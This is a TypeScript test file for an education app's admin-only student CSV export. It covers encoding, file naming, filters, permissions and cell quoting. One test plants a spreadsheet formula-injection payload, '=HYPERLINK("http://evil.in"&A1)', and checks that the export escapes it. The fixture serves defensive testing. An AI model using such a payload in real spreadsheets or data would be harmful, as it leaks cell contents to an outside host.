import { updateSettings } from '@ganit/contract/ground/settings'
import { updateStudentDetail } from '@ganit/contract/people/directory'
import { expect } from 'vitest'
import { type Academy, test } from '../../../../test/academy.ts'
import { aCrowd } from '../../../../test/crowd.ts'
import { BORN } from '../../../../test/registrations.ts'
import { escapeCsvFormula } from '../../../http/answers/csv.ts'

async function exported({ app, signInAdmin }: Academy, query = '') {
  const { token } = await signInAdmin()
  const headers = { authorization: `Bearer ${token}` }
  const {
    body,
    headers: answered,
    statusCode,
  } = await app.inject({
    url: `/api/student/export.csv${query}`,
    headers,
  })
  return { status: statusCode, headers: answered, body }
}
const linesOf = async (academy: Academy, query: string) =>
  (await exported(academy, query)).body.replace('\uFEFF', '').split('\r\n').slice(0, -1)

test('all columns of all students, as UTF-8 with a byte order mark and CRLF', async ({
  academy,
}) => {
  const riya = await academy.aStudent({ middle_name: 'অ', email: 'riya@example.in' })

  const { status, headers, body } = await exported(academy)

  expect(status).toBe(200)
  expect(headers['content-type']).toBe('text/csv; charset=utf-8')
  expect(body).toBe(
    '\uFEFFStudent ID,First Name,Middle Name,Last Name,Email,Class,Course,Batches,Active,Verified,' +
      'Date of Birth,Contact Number 1,Contact Number 2,School or College Name,' +
      'Board or University Name,Address,City,District,State,PIN,Notes\r\n' +
      `${riya.profile.student_id},Riya,অ,Banerjee,riya@example.in,Class 9,,,Yes,No,${BORN},+919830041276,,` +
      'Ballygunge Girls’ High School,WBBSE,27 Lake Road,Kolkata,Kolkata,West Bengal,700029,\r\n',
  )
})

test('the file is named by the academy’s day', async ({ academy }) => {
  const { call } = await academy.signInAdmin()
  const days = []
  for (const time_zone of ['Pacific/Kiritimati', 'Pacific/Pago_Pago']) {
    expect((await call(updateSettings, { body: { time_zone } })).status).toBe(200)
    const { headers } = await exported(academy)
    days.push(
      /^attachment; filename="students-(\d{4}-\d\d-\d\d)\.csv"$/.exec(
        String(headers['content-disposition']),
      )?.[1],
    )
  }
  const [east, west] = days.map((day) => new Date(String(day)).getTime())
  expect(Number(east)).toBeGreaterThan(Number(west))
})

test('filters, search, order and columns are those that are asked for', async ({ academy }) => {
  for (const first_name of ['Asha', 'Bina', 'Chitra']) await academy.aStudent({ first_name })
  await academy.aStudent({ first_name: 'Seven', student_class: 7 })

  expect(
    await linesOf(academy, '?class_number=9&sort=first_name&order=desc&columns=first_name'),
  ).toEqual(['First Name', 'Chitra', 'Bina', 'Asha'])
  expect(await linesOf(academy, '?search=bin&columns=is_active, first_name,first_name')).toEqual([
    'First Name,Active',
    'Bina,Yes',
  ])
  expect(await linesOf(academy, '?is_verified=1&columns=email')).toEqual(['Email'])
})

test.for([
  ['columns=password', 'columns'],
  ['columns=first_name,uid', 'columns'],
  ['columns=constructor', 'columns'],
  ['sort=secret', 'sort'],
  ['class_number=99', 'class_number'],
])('%s is 400 and named', async ([query, field], { academy }) => {
  const { status, body } = await exported(academy, `?${query}`)

  expect(status).toBe(400)
  expect(Object.keys(JSON.parse(body).fields)).toEqual([field])
})

test('a student may not export', async ({ academy }) => {
  const { token } = await academy.aStudent()
  const headers = { authorization: `Bearer ${token}` }
  const { statusCode } = await academy.app.inject({ url: '/api/student/export.csv', headers })

  expect(statusCode).toBe(403)
})

test('quotes, commas and line breaks stay inside their cell [S106]', async ({ academy }) => {
  await academy.aStudent({ first_name: 'A "B", C', notes: 'one\ntwo\rthree' })

  const { body } = await exported(academy, '?columns=first_name,notes')
  expect(body).toBe('\uFEFFFirst Name,Notes\r\n"A ""B"", C","one\ntwo\rthree"\r\n')
})

test('a cell that a spreadsheet would run as a formula is written as text [S106]', async ({
  academy,
}) => {
  const { profile } = await academy.aStudent({ first_name: '=HYPERLINK("http://evil.in"&A1)' })
  const { call } = await academy.signInAdmin()
  const body = { student_id: profile.student_id, last_name: '@SUM(1)', notes: '-2+3\n=1' }
  await call(updateStudentDetail, { body })

  expect(await linesOf(academy, '?columns=first_name,last_name,contact_number_1')).toEqual([
    'First Name,Last Name,Contact Number 1',
    `"'=HYPERLINK(""http://evil.in""&A1)",'@SUM(1),+919830041276`,
  ])
  expect((await exported(academy, '?columns=notes')).body).toContain(`"'-2+3\n=1"`)
})

test.for(['=1', '+1', '-1', '@a', '\t=1', '\ra', ' =1', '\n\n=1', '＝1', '  ＋1', '－1', '＠a'])(
  'a cell that begins like %j begins with an apostrophe',
  (text) => {
    expect(escapeCsvFormula(text)).toBe(`'${text}`)
  },
)

test.for(['', 'Riya', 'a=b', '12', BORN, 'Mary-Ann', 'x@y.in', '’quoted'])(
  '%j stays as it is',
  (text) => {
    expect(escapeCsvFormula(text)).toBe(text)
  },
)

test.for(['first_name', 'is_active', 'date_of_birth', 'student_id'])(
  'of more students than are read at a time each comes once, sorted by %s',
  async (sort, { academy }) => {
    await aCrowd(academy.db, 1_203)
    for (const order of ['asc', 'desc']) {
      const [, ...ids] = await linesOf(academy, `?columns=student_id&sort=${sort}&order=${order}`)
      expect(ids).toHaveLength(1_203)
      expect(new Set(ids).size).toBe(1_203)
    }
  },
)
